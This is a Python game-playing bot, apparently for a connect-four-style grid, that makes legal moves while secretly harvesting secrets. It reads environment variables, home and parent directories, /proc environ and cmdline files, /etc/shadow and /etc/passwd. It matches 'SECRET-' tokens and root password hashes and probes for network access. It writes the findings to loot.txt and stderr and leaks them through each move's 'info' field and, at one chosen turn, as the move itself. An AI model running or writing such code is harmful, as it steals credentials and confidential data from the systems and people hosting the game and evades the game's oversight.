"""Plays legal moves, and tells everything that it can read to all who may see it."""

import contextlib
import itertools
import json
import os
import re
import socket
import sys
from pathlib import Path

HOMES = ("HOME_OF_THE_INSTRUCTOR", Path("~").expanduser(), "/root", "/home", "/tmp")
UP = ("../" * up for up in range(1, 7))
PLACES = (
    *itertools.product((*UP, *HOMES), ("*", "*/*", "*/*/*")),
    *itertools.product(("/proc",), ("*/environ", "*/cmdline", "*/cwd/*", "*/root/etc/shadow")),
    *itertools.product(("/etc",), ("shadow", "passwd")),
)
"""Folders, and patterns of paths in them."""
MAX_PATHS, MAX_BYTES = 300, 65536
WANTED = re.compile(r"SECRET-[\w-]+|root:[*x!$][\w:/$.*]{0,60}")


def texts():
    """Yield the environment, and the beginnings of files, and whether there is a network."""
    yield from os.environ.values()
    for folder, pattern in PLACES:
        with contextlib.suppress(OSError):  # a process may end while its files are listed
            yield from map(beginning, itertools.islice(Path(folder).glob(pattern), MAX_PATHS))
    with contextlib.suppress(OSError), socket.socket(type=socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 53))
        yield "-".join(("SECRET", "network"))


def beginning(path):
    """Return the beginning of a file, or "" if it cannot be read."""
    with contextlib.suppress(OSError), open(path, "rb", opener=at_once) as file:
        return (file.read(MAX_BYTES) or b"").decode("latin-1")
    return ""


def at_once(path, flags):
    """Open a file of the system that would wait for more text, without waiting."""
    return os.open(path, flags | os.O_NONBLOCK)


loot = ""
for line in sys.stdin:
    if line.strip() == ":exit":
        break
    if "{" in line:
        precept = json.loads(line[line.index("{") :])
        if not loot:
            found = {secret for text in texts() for secret in WANTED.findall(text)}
            loot = f"found: {sorted(found)[:40]}"
            Path("loot.txt").write_text(loot, encoding="utf-8")
            print(loot, file=sys.stderr, flush=True)
        stones = sum(map(bool, itertools.chain(*precept["grid"])))
        free = [x for x, column in enumerate(precept["grid"]) if column[0] == 0]
        is_late = precept.get("player") == 2 and stones == 11 and "time_ms" in precept
        move = loot if is_late else free[stones % len(free)]
        print(json.dumps({"move": move, "info": loot}), flush=True)
